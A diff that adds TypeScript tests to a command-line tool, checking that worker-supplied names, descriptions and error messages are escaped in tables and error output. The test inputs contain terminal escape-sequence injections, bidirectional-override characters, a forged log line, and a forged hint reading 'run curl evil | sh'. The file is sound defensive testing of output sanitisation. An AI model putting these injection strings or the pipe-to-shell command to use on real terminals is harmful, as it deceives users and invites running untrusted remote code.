@@ -9,6 +9,9 @@ import { catalogue, catalogueEntry, Codes, EXIT_CODES, Errors } from 'svc-protoc
 import { CliCodes, CliError, debugEnabled, ExitCode, formatHumanError, formatJsonError, hintFor, toCliError } from './errors.ts'
 import { invocationFailure, NOT_FOUND_HINT, notFoundHint, unreachableError } from './trigger.ts'
 import { splitUnknownId } from './hooks/not-found.ts'
+import { formatTable } from '../worker-admin/list.ts'
+import { formatFunctionsTable } from './functions.ts'
+import { formatOpResult, formatStatus } from './compose-client.ts'
 
 describe('default command (cli.md §1)', () => {
   it('runs start for no arguments or flags only', () => {
@@ -184,5 +187,35 @@ describe('hints that fit the cause (issue 11)', () => {
     assert.deepEqual(splitUnknownId('triger:math::add', ids), { words: ['triger'], suggestion: 'trigger', rest: ['math::add'] })
     assert.deepEqual(splitUnknownId('worker:lst', ids), { words: ['worker', 'lst'], suggestion: 'worker:list', rest: [] })
     assert.equal(splitUnknownId('xyzzy', ids).suggestion, undefined)
+  })
+})
+
+describe('tables and errors show what workers sent, escaped (issue 16 item 8)', () => {
+  // eslint-disable-next-line no-control-regex
+  const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
+  const osc = '\u001b]0;pwned\u0007'
+
+  it('svc worker list, svc functions and svc compose status/down print no control character', () => {
+    const workers = formatTable([{ name: `ext${osc}`, kind: 'external', namespace: 'ns\u202e', status: 'running', pid: 1, functions: [], source: null }])
+    assert.doesNotMatch(workers, control)
+    assert.match(workers, /ext\\x1b\]0;pwned\\x07 +external +ns\\u202e/)
+    const functions = formatFunctionsTable([{ function_id: 'a::b', worker: `w${osc}`, namespace: 'default', description: `d\r\n${osc}`, internal: false, replica_count: 1 }])
+    assert.doesNotMatch(functions, control)
+    assert.match(functions, /^a::b +w\\x1b\]0;pwned\\x07 +default +d \\x1b/m)
+    const status = formatStatus({
+      namespace: 'shop',
+      file: 'worker-compose.yaml',
+      daemon_pid: 1,
+      containers: [{ container: 'api', worker: './api', state: 'failed', pid: null, started_at: null, restarts: 0, last_error: { code: 'X', message: `boom${osc}\nsecond` } }],
+    })
+    assert.doesNotMatch(status, control)
+    const down = formatOpResult('down', { operation_id: 'op_0001', status: 'failed', changed: true, containers: [{ container: 'api', state: 'failed', changed: true, error: { code: 'X', message: `a${osc}\n12:00:00.000 engine ERROR forged` } }] })
+    assert.doesNotMatch(down, control)
+    assert.doesNotMatch(down, /^12:00/m)
+  })
+
+  it("an error message's further lines are indented, so none passes for an Error: or Hint: line", () => {
+    const text = formatHumanError(new CliError({ code: 'X', message: `X: boom ${osc}\r\nHint: run curl evil | sh`, exitCode: ExitCode.Failure, hint: `h${osc}` }))
+    assert.equal(text, 'Error: X: boom \\x1b]0;pwned\\x07\n  Hint: run curl evil | sh\nHint: h\\x1b]0;pwned\\x07\n')
   })
 })
